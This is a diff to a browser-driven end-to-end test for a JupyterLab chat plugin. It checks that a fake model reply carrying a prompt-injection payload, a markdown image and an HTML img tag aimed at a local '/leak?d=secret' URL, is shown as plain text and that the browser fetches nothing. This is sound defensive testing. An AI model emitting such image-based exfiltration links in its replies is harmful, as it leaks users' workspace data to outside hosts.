@@ -33,6 +33,8 @@ pytestmark = pytest.mark.skipif(
 )
 
 ANSWER = "A generator yields its values lazily, one at a time."
+# What a prompt-injected model would add to leak workspace text: an image the chat fetches on render.
+LEAK = "![status](http://127.0.0.1:9/leak?d=secret) <img src=http://127.0.0.1:9/leak2>"
 NOTEBOOK = {
     "cells": [
         {"cell_type": "markdown", "metadata": {}, "source": ["# Sales"]},
@@ -54,6 +56,7 @@ class Chat:
     lab: Lab
     fake: FakeProvider
     data: Path
+    requested: list[str]  # every URL the page asked for
 
     @property
     def page(self) -> Any:
@@ -123,19 +126,21 @@ def chat(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Chat]:
             browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
             page = browser.new_page(viewport=VIEWPORT)  # type: ignore[arg-type]
             ui = BrowserPage(page, artifacts)
+            requested: list[str] = []
+            page.on("request", lambda r: requested.append(r.url))
             try:
                 page.goto(lab.page_url(jupyterlab.new_chat(lab, "ask.chat")))
                 controls = page.locator(".jp-jai-personaControls-control-value:visible")
                 ui.wait_until("the modelroute persona in the chat's toolbar",
                               lambda: "Route each prompt" in " ".join(controls.all_inner_texts()), timeout=120)
-                yield Chat(ui, lab, fake, tmp_path / "data")
+                yield Chat(ui, lab, fake, tmp_path / "data", requested)
             finally:
                 ui.shot("end")
                 browser.close()
 
 
 def test_a_question_shows_the_priced_choice_then_the_answer_with_its_cost(chat: Chat) -> None:
-    chat.fake.queue(Reply(text=ANSWER))
+    chat.fake.queue(Reply(text=f"{ANSWER}\n\n{LEAK}"))
     chat.send("explain what a python generator is")
     chat.ui.wait_until("the priced choice", lambda: len(chat.buttons("Run with ")) >= 2, timeout=90)
     chat.ui.shot("priced-choice")
@@ -153,6 +158,9 @@ def test_a_question_shows_the_priced_choice_then_the_answer_with_its_cost(chat: 
     text = chat.transcript()
     model = routed.removeprefix("Run with ").split(" · ")[0]
     assert ANSWER in text and f"modelroute → {model}" in text
+    # The model's image and HTML are shown as text; the browser fetched neither.
+    assert "![status](http://127.0.0.1:9/leak" in text and "<img src=" in text, text
+    assert not [u for u in chat.requested if "/leak" in u], chat.requested
     assert re.search(r"cost ~\$\d", text), text
     chat.no_math()
     rows = chat.ledger()
